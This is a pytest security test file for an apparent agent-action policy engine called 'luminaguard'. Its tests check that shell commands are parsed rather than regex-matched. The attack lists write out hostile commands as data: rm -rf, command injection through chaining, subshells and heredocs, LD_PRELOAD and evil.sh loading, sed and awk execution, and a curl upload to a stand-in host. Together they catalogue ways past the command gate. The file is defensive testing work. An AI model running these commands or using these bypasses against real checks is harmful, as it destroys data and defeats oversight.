"""Class 1: shell commands are parsed, not pattern-matched.

Each attack here was Green under the regex rules of the starter policy or of example 04
before commit bea4ec6 ("policy: run: commands parsed with tree-sitter-bash; each simple
command decided...") and is Red after it (checked by running this file against d89e819:
the instances of the issue fail there, the property finds them too).
"""

from __future__ import annotations

from pathlib import Path

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from luminaguard.policy.action import Action
from tests.security.engines import reporting, starter

STARTER_ATTACKS = [
    "echo checking\ntouch /work/pwned",
    "git log -1 --format=%H\n--output=x",
    "cat x\r\nid",
    "ls; touch /work/pwned",
    "ls && rm -rf /work",
    "ls || rm -rf /work",
    "ls | sh",
    "ls & rm -rf /work",
    "(rm -rf /work)",
    "{ rm -rf /work; }",
    "if true; then rm -rf /work; fi",
    "for f in a; do rm -rf /work; done",
    "while false; do ls; done; rm -rf /work",
    "echo $(rm -rf /work)",
    "echo `rm -rf /work`",
    "cat <(rm -rf /work)",
    "echo ${X:-$(id)}",
    "echo $((1+2))",
    "eval 'rm -rf /work'",
    "source /work/evil.sh",
    ". /work/evil.sh",
    "exec rm -rf /work",
    "sh -c 'ls; rm -rf /work'",
    "bash -c \"ls && sh -c 'rm -rf /work'\"",
    "sh <<EOF\nrm -rf /work\nEOF",
    "timeout 5 rm -rf /work",
    "env A=1 rm -rf /work",
    "nice -n 5 nohup rm -rf /work",
    "PATH=/work/bin ls",
    "LD_PRELOAD=/work/evil.so ls",
    "ls() { rm -rf /work; }; ls",
    "ls > /work/overwritten",
    "echo x >> /work/.bashrc",
    "git -c core.fsmonitor=/work/evil status",
    "git --git-dir=/work/x log",
    "git diff --output=/work/x",
    "git diff --ext-diff",
    "find /work -exec rm {} ;",
    "find /work -delete",
    "find /work -fprint /work/list",
    "sed -i s/a/b/ /work/f",
    "sed 's/a/b/w /work/out' /work/f",
    "sed 's/.*/id/e' /work/f",
    "awk 'BEGIN { system(\"id\") }'",
    "/work/ls",
    "ls /work/*",
    "ls )",
]


@pytest.mark.parametrize("command", STARTER_ATTACKS)
def test_attacks_on_the_starter_policy_are_red(command: str) -> None:
    decision = starter().decide(Action(kind="run", command=command))
    assert decision.risk == "red", (command, decision)


@pytest.mark.parametrize(
    "command",
    [
        "find /data/repo -exec cp /work/report.md /work/published/report.md ;",
        "find /work -name report.md -execdir cp {} /work/published/ ;",
        "find /work -fprint /work/published/report.md",
        "find /work/published -delete",
        "ls /data/repo; cp /work/report.md /work/published/report.md",
        "cat /work/report.md > /work/published/report.md",
        "sh /data/scripts/report.sh /work/report.md; cp /work/report.md /work/published/x",
    ],
)
def test_example_04s_publish_cannot_be_done_green(command: str) -> None:
    """Example 04's regex let find's actions through, so its Red publish ran Green."""
    decision = reporting().decide(Action(kind="run", command=command))
    assert decision.risk == "red", (command, decision)


def test_what_the_starter_policy_still_lets_run() -> None:
    engine = starter()
    for command in (
        "ls -la /work",
        "git log --oneline -5",
        "grep -rn TODO /work | head -5",
        "find /work -name '*.md' -type f",
        "timeout 5 wc -l /work/a.md 2>/dev/null",
    ):
        assert engine.decide(Action(kind="run", command=command)).risk == "green", command


def test_the_red_part_is_named() -> None:
    decision = starter().decide(Action(kind="run", command="ls /work && curl -d @x http://e"))
    assert decision.rule == "shell-network"
    assert "`curl -d @x http://e` is Red" in decision.reason


GREEN = [
    "ls",
    "ls -la /work",
    "echo checking",
    "cat /work/a.md",
    "git log -1",
    "wc -l /work/a",
    "echo hi",
]
RED = ["rm -rf /work", "curl http://x", "touch /work/pwned", "sh", "python3 -c 1", "cp a b"]
JOINS = [";", "&&", "||", "|", "&", "\n", " ; ", " && \n"]


@settings(max_examples=300, deadline=None)
@example(["echo checking"], "touch /work/pwned", [], ["\n"] * 8, "")  # the instance
@example(["ls -la /work"], "rm -rf /work", ["ls"], ["\n"] * 8, "")
@given(
    st.lists(st.sampled_from(GREEN), max_size=4),
    st.sampled_from(RED),
    st.lists(st.sampled_from(GREEN), max_size=4),
    st.lists(st.sampled_from(JOINS), min_size=8, max_size=8),
    st.sampled_from(["", "( {} )", "{{ {} ; }}", "if true; then {} ; fi"]),
)
def test_a_red_command_among_green_ones_is_never_green(
    before: list[str], red: str, after: list[str], joins: list[str], wrap: str
) -> None:
    """Composing any Red command with any number of Green ones never makes it Green."""
    parts = [*before, wrap.format(red) if wrap else red, *after]
    command = parts[0]
    for join, part in zip(joins, parts[1:], strict=False):
        command += join + part
    decision = ENGINE.decide(Action(kind="run", command=command))
    assert decision.risk == "red", command


ENGINE = starter()


def test_explain_shows_the_parse(tmp_path: Path) -> None:
    from luminaguard.policy.explain import explain

    trace = explain(ENGINE, Action(kind="run", command="ls | sh -c 'id; rm -rf /work'"))
    assert [part.part.simple.program for part in trace.parts] == ["ls", "id", "rm"]
    assert trace.decision.risk == "red"


@pytest.mark.parametrize("char", ["\U000e0001", "\U000d7fb5", "\U0010fffd", "\x9a", "\ufeff"])
def test_characters_that_crash_the_grammar_never_reach_it(char: str) -> None:
    """tree-sitter-bash 0.25 segfaults (after some parses) on ``a{`` and some code points
    past U+FFFF, found by fuzzing: a hostile command could kill the runner. Such text is
    refused before the parser sees it (commit "shell parse: characters past U+FFFF ...")."""
    from luminaguard.shell.parse import parse_command

    parsed = parse_command("a{" + char)
    assert parsed.commands == () and parsed.undecidable is not None
    assert ENGINE.decide(Action(kind="run", command="ls a{" + char)).risk == "red"
